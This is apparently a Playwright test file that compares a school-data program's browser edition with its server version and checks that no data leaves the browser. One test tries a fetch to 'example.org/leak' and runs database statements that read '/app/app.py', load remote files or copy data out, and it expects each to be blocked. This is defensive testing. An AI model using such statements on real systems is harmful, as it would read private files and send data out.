"""The browser edition against the program: the same words on every page, and nothing goes out."""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import zip_longest

import pytest
from playwright.sync_api import Browser, Page, expect

from cwsw.access import Role
from cwsw.ui.auth import page_registry
from cwsw.ui.governors import papers
from cwsw.ui.upload import wording
from cwsw.ui.wording import text
from tests.browser.edition_support import (
    START_LIMIT,
    Wire,
    built,
    hosted,
    look_as,
    open_entry,
    start,
    steady,
    words,
)
from tests.browser.support import Server, go_to, heading, running_server, wait_for_app
from tests.browser.test_mapping import choose, say_yes, tell_the_day
from tests.browser.test_papers import taken
from tests.browser.test_upload import BOOK, press
from tests.support import pdfs
from tests.support.foreign_pages import export

pytestmark = pytest.mark.long

OTHER_WORDS = frozenset({"data/keep.py", "data/what_leaves.py"})
"""Pages of which the browser edition has none, or says something else on purpose."""
ROLES = (Role.HEADTEACHER, Role.PASTORAL, Role.GOVERNOR)
TO_OUTSIDE = """async () => {
  const refused = new Promise((tell) => {
    addEventListener("securitypolicyviolation", (event) => tell(event.blockedURI));
  });
  await fetch("https://example.org/leak").catch(() => {});
  const late = new Promise((tell) => setTimeout(() => tell("let through"), 3000));
  return Promise.race([refused, late]);
}"""
FROM_A_WORKER = """async () => {
  const link = new Worker("./program.js#00000000-0000-0000-0000-000000000000", { type: "module" });
  link.terminate();
  const answer = await fetch("./program.js");
  return answer.headers.get("content-security-policy");
}"""

ASK_THE_DATABASE = """(statement) => {
  const database = self.cwsw.database;
  const connection = database.connect();
  try { return "answered: " + database.query(connection, statement).length; }
  catch (error) { return String(error); }
  finally { database.disconnect(connection); }
}"""
REFUSED = {
    "select * from read_text('/app/app.py')": "disabled",
    "select * from read_csv('https://example.org/leak.csv')": "disabled",
    "copy (select 1) to 'out.csv'": "disabled",
    "attach 'other.db'": "disabled",
    "load httpfs": "disabled",
    "set enable_external_access = true": "locked",
}
"""What the database must not do, and why it says it does not."""


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with built() as folder, hosted(folder) as here:
        yield here


@pytest.fixture
def program() -> Iterator[Server]:
    with running_server() as running:
        yield running


@dataclass
class Pair:
    """The same visitor in the browser edition and in the program."""

    there: Page
    here: Page
    wire: Wire
    address: str

    def __iter__(self) -> Iterator[Page]:
        return iter((self.there, self.here))

    def same(self, what: str) -> None:
        """Both show the same words."""
        assert words(self.there) == words(self.here), what


@pytest.fixture
def pair(browser: Browser, address: str, program: Server) -> Iterator[Pair]:
    """A visitor of the edition, all of whose requests are noted, and one of the program."""
    wire = Wire()
    closed = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
    usual = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
    wire.listen(closed)
    there, here = closed.new_page(), usual.new_page()
    start(there, address)
    here.goto(program.url)
    wait_for_app(here)
    yield Pair(there, here, wire, address)
    assert wire.outside(address) == []
    assert wire.complaints == []
    closed.close()
    usual.close()


def first_difference(there: list[str], here: list[str]) -> tuple[str, str]:
    """The first lines in which two pages differ."""
    pairs = zip_longest(there, here, fillvalue="")
    return next((one, other) for one, other in pairs if one != other)


@pytest.mark.parametrize("sample", ["secondary", "primary"])
def test_every_page_says_the_same(pair, sample):
    unlike = []
    for page in pair:
        page.get_by_role("button", name=f"Try the sample {sample} school").click()
        heading(page, "Overview")
    for role in ROLES:
        if role is not Role.HEADTEACHER:
            for page in pair:
                look_as(page, role)
        for entry in page_registry.entries_for(page_registry.whoever_is_alone(role)):
            if entry.path.removeprefix("pages/") in OTHER_WORDS:
                continue
            for page in pair:
                open_entry(page, entry, role)
            there, here = map(words, pair)
            if there != here:
                unlike.append((f"{entry.title}, {role}", *first_difference(there, here)))
    assert unlike == []


def test_a_workbook_is_read_and_the_governors_paper_is_the_same(pair):
    made = []
    for page in pair:
        go_to(page, "Upload", "Upload your spreadsheet")
        choose(page, ("hill.xlsx", BOOK))
        heading(page, "Check what was read")
    pair.same("what was read")
    for page in pair:
        press(page, "Go on to confirm")
        press(page, "Confirm")
        heading(page, "Overview")
    pair.same("overview")
    for page in pair:
        go_to(page, "Publish", "Publish to governors")
        press(page, "Publish to governors")
        expect(page.get_by_role("link", name="Read it as governors do").first).to_be_visible()
        go_to(page, "Governors")
        made.append(pdfs.all_text(pdfs.opened(taken(page, papers.PDF)[1])))
    assert made[0] == made[1]
    assert "Hill School" in made[0]


def test_lists_of_other_systems_are_understood(pair):
    for page in pair:
        go_to(page, "Upload", "Upload your spreadsheet")
        choose(page, *export("_dsl_names").files)
        heading(page, wording.JOINS_TITLE)
    pair.same("questions")
    for page in pair:
        say_yes(page)
        tell_the_day(page)
        heading(page, "Check what was read")
    pair.same("what was understood")


def test_nothing_can_be_sent_out_and_nothing_is_kept(pair):
    there = pair.there
    assert there.evaluate(TO_OUTSIDE) == "https://example.org/leak"
    policy = there.evaluate(FROM_A_WORKER)
    assert "default-src 'none'" in policy
    assert "connect-src 'self'" in policy
    worker = next(worker for worker in there.workers if "/program.js" in worker.url)
    assert worker.evaluate(ASK_THE_DATABASE, "select 42").startswith("answered")
    answers = {sql: worker.evaluate(ASK_THE_DATABASE, sql) for sql in REFUSED}
    assert [sql for sql, why in REFUSED.items() if why not in answers[sql]] == []
    pair.wire.asked = [url for url in pair.wire.asked if url != "https://example.org/leak"]
    there.get_by_text(text.WHERE_TITLE).click()
    expect(there.get_by_text(text.IN_BROWSER)).to_be_visible()
    there.keyboard.press("Escape")
    sidebar = there.get_by_test_id("stSidebar")
    sidebar.get_by_role("link", name="Data and help", exact=True).click()
    wait_for_app(there)
    assert "Keep on this machine" not in steady(there)


def test_once_all_is_stored_a_file_is_read_without_a_network(browser, address):
    context = browser.new_context()
    page = context.new_page()
    start(page, address)
    page.wait_for_function("() => window.cwswStored", timeout=START_LIMIT)
    page.close()
    context.set_offline(True)
    page = context.new_page()
    start(page, address)
    go_to(page, "Upload", "Upload your spreadsheet")
    choose(page, ("hill.xlsx", BOOK))
    heading(page, "Check what was read")
    context.close()
